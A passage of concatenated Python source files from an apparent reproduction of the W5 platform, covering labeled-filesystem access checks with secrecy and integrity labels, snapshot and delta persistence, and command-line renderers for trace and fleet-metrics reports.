    fs.root = _restore_node(root_data, kernel.tags)
    return fs


def _restore_node(data: dict[str, Any], registry: TagRegistry) -> Inode:
    slabel = label_from_dict(data["slabel"], registry)
    ilabel = label_from_dict(data["ilabel"], registry)
    if data["kind"] == "dir":
        node = Directory(name=data["name"], slabel=slabel, ilabel=ilabel,
                         created_by=data.get("created_by", ""))
        node.entries = {name: _restore_node(child, registry)
                        for name, child in data.get("entries", {}).items()}
        return node
    node = File(name=data["name"], slabel=slabel, ilabel=ilabel,
                created_by=data.get("created_by", ""),
                data=data.get("data"))
    node.version = data.get("version", 1)
    return node
