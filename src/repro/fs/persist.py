"""Filesystem persistence: snapshot and restore with labels intact.

A W5 provider restarts; its users' data — and the labels guarding it —
must come back exactly.  ``snapshot_fs`` walks the whole tree with
*no* label checks (it is the provider's cold-storage path, the same
trust level as the disk itself) and emits a JSON-able structure;
``restore_fs`` rebuilds the tree inside a kernel whose tag registry
was restored from the matching snapshot, so every label resolves to
the identical tag and every access decision after the restart matches
the decision before it (tested in ``tests/fs/test_persist.py``).

Payloads must be JSON-representable for the snapshot to be written to
a real disk; arbitrary Python objects round-trip in memory.
"""

from __future__ import annotations

from typing import Any

from ..kernel import Kernel
from ..labels import Label, TagRegistry, label_from_dict, label_to_dict
from .filesystem import Directory, File, Inode, LabeledFileSystem


def snapshot_fs(fs: LabeledFileSystem) -> dict[str, Any]:
    """Serialize the whole tree (provider cold-storage path)."""
    namespace = fs.kernel.tags.namespace
    return {"namespace": namespace,
            "root": _snapshot_node(fs.root, namespace)}


def _snapshot_node(node: Inode, namespace: str,
                   include_entries: bool = True) -> dict[str, Any]:
    common = {
        "name": node.name,
        "slabel": label_to_dict(node.slabel, namespace),
        "ilabel": label_to_dict(node.ilabel, namespace),
        "created_by": node.created_by,
    }
    if isinstance(node, Directory):
        common["kind"] = "dir"
        if include_entries:
            common["entries"] = {
                name: _snapshot_node(child, namespace)
                for name, child in sorted(node.entries.items())}
    else:
        assert isinstance(node, File)
        common["kind"] = "file"
        common["data"] = node.data
        common["version"] = node.version
    return common


# ----------------------------------------------------------------------
# O(dirty) deltas (the incremental-durability path, PR 4)
# ----------------------------------------------------------------------

def snapshot_fs_delta(fs: LabeledFileSystem) -> dict[str, Any]:
    """Serialize only paths touched since the last full checkpoint.

    ``upserts`` maps canonical paths to node snapshots — directories
    *without* their entries (every child touched since the checkpoint
    is its own upsert; untouched children are already in the base) —
    and ``removed`` lists deleted paths.  Cumulative against the base,
    so :func:`merge_fs_delta` of (base, latest delta) equals a full
    :func:`snapshot_fs`.
    """
    namespace = fs.kernel.tags.namespace
    dirty, deleted = fs.dirty_state()
    upserts: dict[str, Any] = {}
    for path in sorted(dirty):
        node = _find_node(fs, path)
        if node is None:  # pragma: no cover - dirty set prunes deletes
            continue
        upserts[path] = _snapshot_node(node, namespace,
                                       include_entries=False)
    return {"namespace": namespace, "upserts": upserts,
            "removed": sorted(deleted)}


def _find_node(fs: LabeledFileSystem, path: str) -> Any:
    from .filesystem import split_path
    node: Any = fs.root
    for part in split_path(path):
        if not isinstance(node, Directory) or part not in node.entries:
            return None
        node = node.entries[part]
    return node


def merge_fs_delta(base: dict[str, Any],
                   delta: dict[str, Any]) -> dict[str, Any]:
    """Fold a delta into a base snapshot → a full-equivalent snapshot.

    Removals apply deepest-first (a deleted directory's recorded
    children vanish before it does); upserts shallowest-first (a new
    directory exists before its children land in it).
    """
    import copy
    root = copy.deepcopy(base["root"])
    for path in sorted(delta.get("removed", ()),
                       key=lambda p: (-p.count("/"), p)):
        parent, leaf = _merge_descend(root, path)
        if parent is not None:
            parent.get("entries", {}).pop(leaf, None)
    upserts = delta.get("upserts", {})
    for path in sorted(upserts, key=lambda p: (p.count("/"), p)):
        parent, leaf = _merge_descend(root, path)
        if parent is None:
            continue
        node = copy.deepcopy(upserts[path])
        if node["kind"] == "dir":
            existing = parent.setdefault("entries", {}).get(leaf)
            if existing is not None and existing.get("kind") == "dir":
                node["entries"] = existing.get("entries", {})
            else:
                node["entries"] = {}
        parent.setdefault("entries", {})[leaf] = node
    return {"namespace": base["namespace"], "root": root}


def _merge_descend(root: dict[str, Any], path: str):
    """(parent node dict, leaf name) for ``path`` in a snapshot tree;
    (None, leaf) when an intermediate directory is absent."""
    parts = [p for p in path.split("/") if p]
    node = root
    for part in parts[:-1]:
        entries = node.get("entries", {})
        if part not in entries:
            return None, parts[-1] if parts else ""
        node = entries[part]
    return node, parts[-1] if parts else ""


def restore_fs(kernel: Kernel, snapshot: dict[str, Any],
               grouped_walk: bool = True) -> LabeledFileSystem:
    """Rebuild a filesystem from a snapshot inside ``kernel``.

    ``kernel.tags`` must already hold the snapshot's tags (restore the
    registry first with :meth:`TagRegistry.import_state`); labels from
    a different namespace are mapped through foreign import, exactly
    like federation transfers.
    """
    fs = LabeledFileSystem(kernel, grouped_walk=grouped_walk)
    root_data = snapshot["root"]
    fs.root = _restore_node(root_data, kernel.tags)
    return fs


def _restore_node(data: dict[str, Any], registry: TagRegistry) -> Inode:
    slabel = label_from_dict(data["slabel"], registry)
    ilabel = label_from_dict(data["ilabel"], registry)
    if data["kind"] == "dir":
        node = Directory(name=data["name"], slabel=slabel, ilabel=ilabel,
                         created_by=data.get("created_by", ""))
        node.entries = {name: _restore_node(child, registry)
                        for name, child in data.get("entries", {}).items()}
        return node
    node = File(name=data["name"], slabel=slabel, ilabel=ilabel,
                created_by=data.get("created_by", ""),
                data=data.get("data"))
    node.version = data.get("version", 1)
    return node
