"""The labeled filesystem.

All user data on a W5 cluster lives in files (photos, blog posts,
friend lists) whose labels the platform enforces on every access (§2:
the provider's software must track data "to and from persistent
storage").

Label semantics
---------------

Each object (file or directory) carries:

* ``slabel`` — secrecy.  *Reading* is a flow object → process and
  requires ``S_obj ⊆ S_proc``; *writing* is process → object and
  requires ``S_proc ⊆ S_obj``.  A tainted process can therefore write
  only into files at least as tainted as itself — the classic
  no-write-down rule that stops a malicious app from copying Bob's
  photos into a public file.

* ``ilabel`` — integrity, checked in the dual direction: reading
  requires ``I_proc ⊆ I_obj`` (a high-integrity process only consumes
  endorsed inputs), writing requires ``I_obj ⊆ I_proc``.

* **Write protection (§3.1)** falls out of integrity: when Bob's data
  is created, the platform puts Bob's *write tag* ``w_bob`` into the
  file's integrity label.  Writing then requires the writer to carry
  ``w_bob`` in its own integrity label, which it can only do with the
  ``w_bob+`` capability — exactly the "write privilege" Bob delegates
  "as he sees fit".  No parallel permission system is needed.

Capability waivers
------------------

File access applies a process's capabilities exactly where Flume's
endpoint rule would let it declare a file endpoint, i.e. only where the
waiver is equivalent to a *legal label-change round trip*:

* integrity read-down: a process may read an object missing some of
  its integrity tags iff it holds ``w-`` for each (it could have
  dropped ``w``, read, and stayed low — sound);
* integrity write-up: writing an object that requires ``w`` is allowed
  iff the process holds ``w+`` (it could have claimed ``w`` first) —
  this *is* W5's delegable write privilege;
* secrecy write-down: allowed iff the process holds ``t-`` for each
  shed tag (declassification authority);
* secrecy read-up: allowed only for tags the process fully *owns*
  (``t+`` and ``t-``): with ``t+`` alone, raise–read–lower is not a
  legal sequence, so a mere ``t+`` holder must explicitly raise its
  label (and get stuck tainted) to read.

Otherwise processes do not auto-raise labels on read (Flume, not
Asbestos): a read that would need a label change fails loudly, and the
caller must ``raise_secrecy`` first.  The :class:`FsView` convenience
wrapper keeps application code short without weakening the checks.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Any, Callable, Iterable, Optional

from ..core import access
from ..kernel import Kernel, Process
from ..kernel import audit as A
from ..labels import IntegrityViolation, Label, SecrecyViolation
from .errors import (FsError, IsADirectory, NoSuchPath, NotADirectory,
                     PathExists)


@dataclass
class Inode:
    """Common metadata for files and directories."""

    name: str
    slabel: Label
    ilabel: Label
    created_by: str = ""

    def is_dir(self) -> bool:
        raise NotImplementedError


@dataclass
class File(Inode):
    """A leaf object holding an arbitrary payload."""

    data: Any = None
    version: int = 1

    def is_dir(self) -> bool:
        return False

    def size(self) -> int:
        """Approximate byte size for quota accounting."""
        if isinstance(self.data, (bytes, bytearray)):
            return len(self.data)
        if isinstance(self.data, str):
            return len(self.data.encode())
        return len(repr(self.data))


@dataclass
class Directory(Inode):
    """An interior node mapping names to children."""

    entries: dict[str, Inode] = field(default_factory=dict)

    def is_dir(self) -> bool:
        return True


def split_path(path: str) -> list[str]:
    """Normalize ``/a/b/c`` into components, rejecting empties."""
    parts = [p for p in path.strip("/").split("/") if p]
    for p in parts:
        if p in (".", ".."):
            raise FsError(f"relative component {p!r} not supported")
    return parts


class LabeledFileSystem:
    """A tree of labeled inodes guarded by the flow rules.

    The filesystem holds a reference to the kernel only for auditing
    and resource charging; the flow decisions use the same pure
    functions as IPC, so FS and IPC can never disagree about policy.
    """

    def __init__(self, kernel: Kernel, grouped_walk: bool = True) -> None:
        self.kernel = kernel
        #: ``True``: :meth:`walk` batches read verdicts per distinct
        #: child ``(slabel, ilabel)`` pair and prunes unreadable
        #: subtrees without re-deriving a violation per node.
        #: ``False`` keeps the naive one-check-per-node traversal (the
        #: differential-test oracle).
        self.grouped_walk = grouped_walk
        self.root = Directory(name="/", slabel=Label.EMPTY,
                              ilabel=Label.EMPTY, created_by="provider")
        self._stats = {"subtrees_pruned": 0, "label_batches": 0}
        #: Durability hook: ``(op, data)`` per mutation (journal).
        self.on_mutate: Optional[Callable[[str, dict], None]] = None
        #: O(dirty) snapshot bookkeeping: canonical paths created or
        #: rewritten (resp. removed) since the last full checkpoint.
        self._dirty_paths: set[str] = set()
        self._deleted_paths: set[str] = set()

    @staticmethod
    def canonical(path: str) -> str:
        """One spelling per path, for dirty-set membership."""
        return "/" + "/".join(split_path(path))

    def mark_clean(self) -> None:
        """Forget dirty state (a full snapshot was just taken)."""
        self._dirty_paths.clear()
        self._deleted_paths.clear()

    def dirty_state(self) -> tuple[set[str], set[str]]:
        return set(self._dirty_paths), set(self._deleted_paths)

    def _note_upsert(self, path: str) -> None:
        canon = self.canonical(path)
        self._dirty_paths.add(canon)
        self._deleted_paths.discard(canon)

    def _note_delete(self, path: str) -> None:
        canon = self.canonical(path)
        self._dirty_paths.discard(canon)
        self._deleted_paths.add(canon)
        # children of a deleted dir can no longer be upserted
        prefix = canon + "/"
        self._dirty_paths = {p for p in self._dirty_paths
                             if not p.startswith(prefix)}

    def stats(self) -> dict[str, Any]:
        """Walk-pruning counters for metrics and benchmarks."""
        return {"grouped_walk": self.grouped_walk, **self._stats}

    def snapshot(self) -> dict[str, Any]:
        """:class:`~repro.core.snapshot.Snapshotable` — serialize the
        whole labeled tree (restore with :func:`repro.fs.restore_fs`)."""
        from .persist import snapshot_fs
        return snapshot_fs(self)

    # ------------------------------------------------------------------
    # resolution
    # ------------------------------------------------------------------

    def _resolve(self, process: Process, path: str,
                 want_parent: bool = False) -> Inode:
        """Walk the tree, read-checking every directory traversed.

        Directory traversal is a read of the directory's entry list, so
        each component must be readable by ``process`` — otherwise the
        existence of names inside a secret directory would itself leak.
        """
        parts = split_path(path)
        if want_parent:
            if not parts:
                raise FsError("path has no parent")
            parts = parts[:-1]
        node: Inode = self.root
        walked = ""
        for part in parts:
            if not node.is_dir():
                raise NotADirectory(f"{walked or '/'} is not a directory")
            self._check_read(process, node, walked or "/")
            assert isinstance(node, Directory)
            try:
                node = node.entries[part]
            except KeyError:
                raise NoSuchPath(f"{walked}/{part}") from None
            walked = f"{walked}/{part}"
        return node

    def _parent_and_leaf(self, process: Process,
                         path: str) -> tuple[Directory, str]:
        parent = self._resolve(process, path, want_parent=True)
        if not parent.is_dir():
            raise NotADirectory(f"parent of {path} is not a directory")
        assert isinstance(parent, Directory)
        leaf = split_path(path)[-1]
        return parent, leaf

    # ------------------------------------------------------------------
    # checks
    # ------------------------------------------------------------------

    def _check_read(self, process: Process, node: Inode, path: str) -> None:
        try:
            access.check_read(process, node.slabel, node.ilabel, path,
                              cache=self.kernel.flow_cache,
                              category="fs.read")
        except (SecrecyViolation, IntegrityViolation):
            self.kernel.audit.record(A.FILE_READ, False, process.name,
                                     f"read {path} refused")
            raise

    def _check_write(self, process: Process, node: Inode, path: str) -> None:
        try:
            access.check_write(process, node.slabel, node.ilabel, path,
                               cache=self.kernel.flow_cache,
                               category="fs.write")
        except (SecrecyViolation, IntegrityViolation):
            self.kernel.audit.record(A.FILE_WRITE, False, process.name,
                                     f"write {path} refused")
            raise

    # ------------------------------------------------------------------
    # operations
    # ------------------------------------------------------------------

    def mkdir(self, process: Process, path: str,
              slabel: Optional[Label] = None,
              ilabel: Optional[Label] = None) -> Directory:
        """Create a directory; labels default to the creator's labels.

        Creating an entry writes to the parent directory, so the parent
        must be writable by the process.
        """
        with self.kernel.tracer.detail("fs.mkdir", path=path):
            return self._mkdir(process, path, slabel, ilabel)

    def _mkdir(self, process: Process, path: str,
               slabel: Optional[Label],
               ilabel: Optional[Label]) -> Directory:
        parent, leaf = self._parent_and_leaf(process, path)
        self._check_read(process, parent, path)
        self._check_write(process, parent, path)
        if leaf in parent.entries:
            raise PathExists(path)
        d = Directory(name=leaf,
                      slabel=process.slabel if slabel is None else slabel,
                      ilabel=process.ilabel if ilabel is None else ilabel,
                      created_by=process.name)
        self._validate_new_labels(process, d, path)
        parent.entries[leaf] = d
        self._note_upsert(path)
        if self.on_mutate is not None:
            self.on_mutate("fs.mkdir", {
                "path": self.canonical(path),
                "slabel": sorted(t.tag_id for t in d.slabel),
                "ilabel": sorted(t.tag_id for t in d.ilabel),
                "created_by": d.created_by})
        self.kernel.audit.record(A.FILE_WRITE, True, process.name,
                                 f"mkdir {path}")
        return d

    def create(self, process: Process, path: str, data: Any,
               slabel: Optional[Label] = None,
               ilabel: Optional[Label] = None) -> File:
        """Create a file.  Labels default to the creator's labels.

        The chosen secrecy label must dominate the creator's (no
        writing secrets into a less-secret file at birth); the chosen
        integrity label must be within what the creator can vouch for.
        """
        with self.kernel.tracer.detail("fs.create", path=path):
            return self._create(process, path, data, slabel, ilabel)

    def _create(self, process: Process, path: str, data: Any,
                slabel: Optional[Label],
                ilabel: Optional[Label]) -> File:
        parent, leaf = self._parent_and_leaf(process, path)
        self._check_read(process, parent, path)
        self._check_write(process, parent, path)
        if leaf in parent.entries:
            raise PathExists(path)
        f = File(name=leaf,
                 slabel=process.slabel if slabel is None else slabel,
                 ilabel=process.ilabel if ilabel is None else ilabel,
                 created_by=process.name, data=copy.deepcopy(data))
        self._validate_new_labels(process, f, path)
        self.kernel.resources.charge(process, "disk", f.size())
        parent.entries[leaf] = f
        self._note_upsert(path)
        if self.on_mutate is not None:
            self.on_mutate("fs.create", {
                "path": self.canonical(path),
                "slabel": sorted(t.tag_id for t in f.slabel),
                "ilabel": sorted(t.tag_id for t in f.ilabel),
                "created_by": f.created_by, "data": f.data})
        self.kernel.audit.record(A.FILE_WRITE, True, process.name,
                                 f"create {path}")
        return f

    def _validate_new_labels(self, process: Process, node: Inode,
                             path: str) -> None:
        """A freshly created object is a write, checked like one."""
        self._check_write(process, node, path)

    def read(self, process: Process, path: str) -> Any:
        """Return a *copy* of a file's payload after the read checks.

        The copy is load-bearing: handing out the stored object by
        reference would let a process mutate storage in place,
        bypassing the write checks entirely (a reader could append to
        a stored list and the vandalism would stick even though its
        ``write`` was refused).
        """
        with self.kernel.tracer.detail("fs.read", path=path):
            return self._read(process, path)

    def _read(self, process: Process, path: str) -> Any:
        node = self._resolve(process, path)
        if node.is_dir():
            raise IsADirectory(path)
        self._check_read(process, node, path)
        self.kernel.resources.charge(process, "disk_read", 1)
        self.kernel.audit.record_lazy(A.FILE_READ, True, process.name,
                                      "read %s", (path,))
        assert isinstance(node, File)
        return copy.deepcopy(node.data)

    def write(self, process: Process, path: str, data: Any) -> File:
        """Overwrite a file's payload after the write checks."""
        with self.kernel.tracer.detail("fs.write", path=path):
            return self._write(process, path, data)

    def _write(self, process: Process, path: str, data: Any) -> File:
        node = self._resolve(process, path)
        if node.is_dir():
            raise IsADirectory(path)
        self._check_write(process, node, path)
        assert isinstance(node, File)
        self.kernel.resources.charge(process, "disk", max(
            0, File(name="", slabel=Label.EMPTY, ilabel=Label.EMPTY,
                    data=data).size() - node.size()))
        node.data = copy.deepcopy(data)
        node.version += 1
        self._note_upsert(path)
        if self.on_mutate is not None:
            self.on_mutate("fs.write", {
                "path": self.canonical(path), "data": node.data})
        self.kernel.audit.record_lazy(A.FILE_WRITE, True, process.name,
                                      "write %s", (path,))
        return node

    def delete(self, process: Process, path: str) -> None:
        """Remove a file or empty directory (a write to object+parent)."""
        with self.kernel.tracer.detail("fs.delete", path=path):
            self._delete(process, path)

    def _delete(self, process: Process, path: str) -> None:
        parent, leaf = self._parent_and_leaf(process, path)
        self._check_read(process, parent, path)
        self._check_write(process, parent, path)
        try:
            node = parent.entries[leaf]
        except KeyError:
            raise NoSuchPath(path) from None
        self._check_write(process, node, path)
        if node.is_dir() and getattr(node, "entries", None):
            raise FsError(f"directory {path} not empty")
        del parent.entries[leaf]
        self._note_delete(path)
        if self.on_mutate is not None:
            self.on_mutate("fs.delete", {"path": self.canonical(path)})
        self.kernel.audit.record(A.FILE_WRITE, True, process.name,
                                 f"delete {path}")

    def listdir(self, process: Process, path: str = "/") -> list[str]:
        """Entry names of a directory (a read of the directory)."""
        with self.kernel.tracer.detail("fs.listdir", path=path):
            return self._listdir(process, path)

    def _listdir(self, process: Process, path: str = "/") -> list[str]:
        node = self.root if path in ("", "/") else self._resolve(process, path)
        if not node.is_dir():
            raise NotADirectory(path)
        self._check_read(process, node, path)
        assert isinstance(node, Directory)
        return sorted(node.entries)

    def stat(self, process: Process, path: str) -> dict[str, Any]:
        """Metadata for a path (requires readability of the object)."""
        node = self._resolve(process, path)
        self._check_read(process, node, path)
        info: dict[str, Any] = {
            "name": node.name,
            "is_dir": node.is_dir(),
            "slabel": node.slabel,
            "ilabel": node.ilabel,
            "created_by": node.created_by,
        }
        if isinstance(node, File):
            info["size"] = node.size()
            info["version"] = node.version
        return info

    def exists(self, process: Process, path: str) -> bool:
        """True if ``path`` resolves for this process.

        Deliberately label-checked: a path inside an unreadable
        directory reports ``False`` rather than leaking existence.
        """
        try:
            self._resolve(process, path)
            return True
        except (NoSuchPath, SecrecyViolation, IntegrityViolation,
                NotADirectory):
            return False

    def walk(self, process: Process, path: str = "/") -> Iterable[tuple[str, Inode]]:
        """Yield (path, inode) for every object readable by ``process``.

        Unreadable subtrees are skipped silently — the caller learns
        nothing about them, matching the covert-channel posture of
        :mod:`repro.db`.

        With ``grouped_walk`` (the default) each directory's children
        are grouped by their ``(slabel, ilabel)`` pair and visibility
        is resolved once per distinct pair
        (:func:`repro.core.access.readable_pairs`); unreadable nodes
        are pruned at pop time with the same audit refusal record the
        naive traversal emits, but without re-deriving the full
        violation per node.  Yield order and the audit stream are
        identical to the naive engine.
        """
        node = self.root if path in ("", "/") else self._resolve(process, path)
        root_key = path if path != "/" else ""
        if not self.grouped_walk:
            stack: list[tuple[str, Inode]] = [(root_key, node)]
            while stack:
                prefix, current = stack.pop()
                try:
                    self._check_read(process, current, prefix or "/")
                except (SecrecyViolation, IntegrityViolation):
                    continue
                yield (prefix or "/", current)
                if isinstance(current, Directory):
                    for name, child in sorted(current.entries.items()):
                        stack.append((f"{prefix}/{name}", child))
            return
        root_ok = access.readable(process, node.slabel, node.ilabel,
                                  cache=self.kernel.flow_cache,
                                  category="fs.read")
        gstack: list[tuple[str, Inode, bool]] = [(root_key, node, root_ok)]
        while gstack:
            prefix, current, ok = gstack.pop()
            if not ok:
                # same record _check_read would have written, without
                # paying for the uncached violation derivation
                self.kernel.audit.record(A.FILE_READ, False, process.name,
                                         f"read {prefix or '/'} refused")
                self._stats["subtrees_pruned"] += 1
                continue
            yield (prefix or "/", current)
            if isinstance(current, Directory) and current.entries:
                children = sorted(current.entries.items())
                pairs = {(c.slabel, c.ilabel) for _, c in children}
                verdicts = access.readable_pairs(process, list(pairs),
                                                 cache=self.kernel.flow_cache,
                                                 category="fs.read")
                self._stats["label_batches"] += 1
                for name, child in children:
                    gstack.append((f"{prefix}/{name}", child,
                                   verdicts[(child.slabel, child.ilabel)]))


class FsView:
    """A filesystem handle bound to one process.

    This is what the platform injects into application code next to
    its :class:`~repro.kernel.W5Syscalls`; it simply curries the
    process argument so app code reads naturally.
    """

    def __init__(self, fs: LabeledFileSystem, process: Process) -> None:
        self._fs = fs
        self._process = process

    def mkdir(self, path: str, **kw: Any) -> Directory:
        return self._fs.mkdir(self._process, path, **kw)

    def create(self, path: str, data: Any, **kw: Any) -> File:
        return self._fs.create(self._process, path, data, **kw)

    def read(self, path: str) -> Any:
        return self._fs.read(self._process, path)

    def write(self, path: str, data: Any) -> File:
        return self._fs.write(self._process, path, data)

    def delete(self, path: str) -> None:
        self._fs.delete(self._process, path)

    def listdir(self, path: str = "/") -> list[str]:
        return self._fs.listdir(self._process, path)

    def stat(self, path: str) -> dict[str, Any]:
        return self._fs.stat(self._process, path)

    def exists(self, path: str) -> bool:
        return self._fs.exists(self._process, path)

    def walk(self, path: str = "/") -> Iterable[tuple[str, Inode]]:
        return self._fs.walk(self._process, path)
