"""The ``trace`` subcommand: render a provider trace report.

``Provider.trace_report()`` (or ``W5System.trace_report()``) dumps
tracer stats, per-span-name latency histograms, and the flight
recorder's kept traces as one JSON-serializable dict.  This module
turns a saved copy of that dict into the operator view::

    python -m repro.analysis trace report.json
    python -m repro.analysis trace report.json --chrome out.json

The first form prints a latency table plus the text span trees of the
slowest and errored requests; ``--chrome`` additionally writes the
kept traces as Chrome trace-event JSON (validated before writing), the
artifact CI uploads and Perfetto loads.

Dependency-light on purpose (stdlib json + the repro.obs exporters),
mirroring :mod:`repro.analysis.report`.
"""

from __future__ import annotations

import json
from typing import Any

from ..obs import chrome_trace, render_text, validate_chrome_trace


def latency_table(latencies: dict[str, dict[str, float]]) -> str:
    """Per-span-name latency stats, markdown-formatted, slowest first."""
    lines = ["| span | count | mean | p50 | p95 | p99 | max |",
             "|---|---|---|---|---|---|---|"]
    by_weight = sorted(latencies.items(),
                       key=lambda kv: -kv[1].get("total_s", 0.0))
    for name, st in by_weight:
        lines.append(
            f"| `{name}` | {st['count']} | {st['mean_us']:.1f}µs "
            f"| {st['p50_us']:.1f}µs | {st['p95_us']:.1f}µs "
            f"| {st['p99_us']:.1f}µs | {st['max_us']:.1f}µs |")
    return "\n".join(lines)


def _recorder_of(report: dict[str, Any]) -> dict[str, Any]:
    """The recorder dump: top-level for a single provider, nested
    under ``router`` for a merged ``ShardedProvider`` report (M16) —
    the router's recorder holds the stitched cross-shard trees."""
    if "recorder" in report:
        return report["recorder"]
    return report.get("router", {}).get("recorder", {})


def render_trace_report(report: dict[str, Any],
                        max_trees: int = 5) -> str:
    """The full operator view of one trace report."""
    if not report.get("tracing"):
        return ("tracing was disabled for this run "
                "(build the provider with tracing=True)")
    out = ["# Request trace report", ""]
    stats = report.get("stats", {})
    rec = _recorder_of(report)
    rec_stats = rec.get("stats", {})
    out.append(f"- traces: {stats.get('traces_finished', 0)} finished "
               f"/ {stats.get('traces_started', 0)} started, "
               f"{stats.get('spans_dropped', 0)} spans dropped")
    out.append(f"- recorder: {rec_stats.get('kept_slow', 0)} slow + "
               f"{rec_stats.get('kept_errors', 0)} error traces kept "
               f"of {rec_stats.get('offered', 0)} offered")
    latencies = report.get("latencies", {})
    if latencies:
        out += ["", "## Span latency", "", latency_table(latencies)]
    errors = rec.get("errors", [])
    if errors:
        out += ["", "## Errored / denied requests", ""]
        for trace in errors[:max_trees]:
            out += ["```", render_text(trace), "```", ""]
    slowest = rec.get("slowest", [])
    if slowest:
        out += ["", "## Slowest requests", ""]
        for trace in slowest[:max_trees]:
            out += ["```", render_text(trace), "```", ""]
    return "\n".join(out)


def kept_traces(report: dict[str, Any]) -> list[dict[str, Any]]:
    """All kept traces from a report, slow first, deduped by id."""
    rec = _recorder_of(report)
    seen: set[str] = set()
    out = []
    for trace in rec.get("slowest", []) + rec.get("errors", []):
        if trace["trace_id"] not in seen:
            seen.add(trace["trace_id"])
            out.append(trace)
    return out


def run(argv: list[str]) -> int:
    """Entry point for ``python -m repro.analysis trace ...``."""
    import argparse

    parser = argparse.ArgumentParser(
        prog="python -m repro.analysis trace",
        description="Render a saved Provider.trace_report() JSON dump.")
    parser.add_argument("report", help="trace report JSON file")
    parser.add_argument("--chrome", metavar="OUT",
                        help="also write kept traces as Chrome "
                             "trace-event JSON to OUT")
    parser.add_argument("--max-trees", type=int, default=5,
                        help="span trees to print per section")
    args = parser.parse_args(argv)

    with open(args.report) as fh:
        report = json.load(fh)
    print(render_trace_report(report, max_trees=args.max_trees))

    if args.chrome:
        doc = chrome_trace(kept_traces(report))
        error = validate_chrome_trace(doc)
        if error is not None:
            print(f"refusing to write invalid Chrome trace: {error}")
            return 1
        with open(args.chrome, "w") as fh:
            json.dump(doc, fh, indent=1)
        print(f"\nwrote Chrome trace ({len(doc['traceEvents'])} events) "
              f"to {args.chrome} — load it in Perfetto or "
              f"chrome://tracing")
    return 0
