"""The ``metrics`` and ``fleet`` subcommands: fleet-wide views (M16).

A :class:`~repro.obs.FleetRegistry` snapshot (or the combined
``{"metrics": ..., "health": ...}`` dump an operator saves from a
deployment) renders into tables and states::

    python -m repro.analysis metrics fleet.json
    python -m repro.analysis metrics fleet.json --prometheus
    python -m repro.analysis fleet fleet.json

``metrics`` prints the merged audit counters and per-category latency
percentiles; ``--prometheus`` re-renders the same snapshot as the text
exposition (:func:`repro.obs.prometheus_text`).  ``fleet`` adds the
health rollup: every provider/shard/link with its ok/degraded/down
state and the reasons behind anything non-ok.

Dependency-light on purpose (stdlib json + repro.obs), mirroring
:mod:`repro.analysis.report`.  See ``docs/OBSERVABILITY.md`` part II
for the worked example that produces the input files.
"""

from __future__ import annotations

import json
import sys
from typing import Any

from ..obs import LatencyHistogram, prometheus_text


def _load(path: str) -> dict[str, Any]:
    with open(path) as f:
        return json.load(f)


def _metrics_of(doc: dict[str, Any]) -> dict[str, Any]:
    """Accept a bare registry snapshot or a fleet dump wrapping one."""
    return doc.get("metrics", doc)


def counters_table(counters: dict[str, int]) -> str:
    lines = ["| category | verdict | count |", "|---|---|---|"]
    for key, n in sorted(counters.items()):
        category, verdict = key.rsplit(".", 1)
        lines.append(f"| `{category}` | {verdict} | {n} |")
    return "\n".join(lines)


def latency_table(latency: dict[str, dict[str, Any]]) -> str:
    lines = ["| category | count | mean | p50 | p95 | p99 | max |",
             "|---|---|---|---|---|---|---|"]
    rows = sorted(latency.items(),
                  key=lambda kv: -kv[1].get("total_s", 0.0))
    for category, snap in rows:
        h = LatencyHistogram.from_snapshot(snap)
        if not h.count:
            continue
        lines.append(
            f"| `{category}` | {h.count} "
            f"| {h.total / h.count * 1e6:.1f}µs "
            f"| {h.percentile(0.5) * 1e6:.1f}µs "
            f"| {h.percentile(0.95) * 1e6:.1f}µs "
            f"| {h.percentile(0.99) * 1e6:.1f}µs "
            f"| {h.max * 1e6:.1f}µs |")
    return "\n".join(lines)


def render_metrics(doc: dict[str, Any]) -> str:
    snapshot = _metrics_of(doc)
    out = ["# Fleet metrics", ""]
    members = snapshot.get("members", [])
    out.append(f"- members: {len(members)}"
               + (f" ({', '.join(members)})" if members else ""))
    counters = snapshot.get("counters", {})
    if counters:
        out += ["", "## Merged audit counters", "",
                counters_table(counters)]
    latency = snapshot.get("latency", {})
    if latency:
        out += ["", "## Merged flow latency", "", latency_table(latency)]
    if not counters and not latency:
        out += ["", "(no samples recorded)"]
    return "\n".join(out)


def render_health(health: dict[str, Any], indent: str = "") -> list[str]:
    lines = [f"{indent}- state: **{health.get('state', '?')}**"]
    for reason in health.get("reasons", []):
        lines.append(f"{indent}  - {reason}")
    for section in ("providers", "links", "sources", "shards"):
        entries = health.get(section)
        if isinstance(entries, dict):
            for name, sub in sorted(entries.items()):
                lines.append(f"{indent}- `{name}`: {sub.get('state', '?')}")
                for reason in sub.get("reasons", []):
                    lines.append(f"{indent}  - {reason}")
        elif isinstance(entries, list):
            for i, sub in enumerate(entries):
                lines.append(f"{indent}- `{section[:-1]}:{i}`: "
                             f"{sub.get('state', '?')}")
                for reason in sub.get("reasons", []):
                    lines.append(f"{indent}  - {reason}")
    return lines


def render_fleet(doc: dict[str, Any]) -> str:
    out = [render_metrics(doc)]
    health = doc.get("health")
    if health:
        out += ["", "## Health", ""] + render_health(health)
    return "\n".join(out)


def run_metrics(argv: list[str]) -> int:
    prometheus = "--prometheus" in argv
    paths = [a for a in argv if not a.startswith("-")]
    if len(paths) != 1:
        print("usage: python -m repro.analysis metrics "
              "<fleet.json> [--prometheus]", file=sys.stderr)
        return 2
    doc = _load(paths[0])
    if prometheus:
        sys.stdout.write(prometheus_text(_metrics_of(doc)))
    else:
        print(render_metrics(doc))
    return 0


def run_fleet(argv: list[str]) -> int:
    paths = [a for a in argv if not a.startswith("-")]
    if len(paths) != 1:
        print("usage: python -m repro.analysis fleet <fleet.json>",
              file=sys.stderr)
        return 2
    print(render_fleet(_load(paths[0])))
    return 0
