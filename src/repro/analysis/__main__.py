"""``python -m repro.analysis <benchmark.json>`` — render the report."""

import sys

from .report import render_report


def main() -> int:
    if len(sys.argv) != 2:
        print("usage: python -m repro.analysis <benchmark.json>",
              file=sys.stderr)
        print("(produce the input with: pytest benchmarks/ "
              "--benchmark-only --benchmark-json=benchmark.json)",
              file=sys.stderr)
        return 2
    print(render_report(sys.argv[1]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
