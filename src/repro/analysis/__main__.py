"""``python -m repro.analysis`` — render reports.

Five forms::

    python -m repro.analysis <benchmark.json>        # timing tables
    python -m repro.analysis trace <report.json>     # span trees
    python -m repro.analysis plan <explain.json>     # compiled plans
